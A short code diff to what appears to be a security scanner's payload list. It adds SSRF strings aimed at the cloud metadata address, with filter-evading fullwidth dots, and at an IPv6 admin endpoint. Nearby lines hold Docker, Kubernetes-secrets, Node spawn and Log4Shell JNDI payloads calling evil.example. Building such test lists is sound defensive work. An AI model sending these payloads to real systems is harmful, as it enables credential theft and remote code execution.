@@ -243,6 +243,8 @@ export const PAYLOADS: Record<Exclude<Family, 'scanner' | 'protocol' | 'session_
     'process.binding("spawn_sync")',
     'http://host.docker.internal:2375/containers/json',
     'http://kubernetes.default.svc/api/v1/namespaces/default/secrets',
+    'http://169。254。169。254/latest/meta-data/',
+    'http://[fe80::1%25eth0]:8080/admin',
   ],
   java: [
     '${jndi:ldap://evil.example/a}',
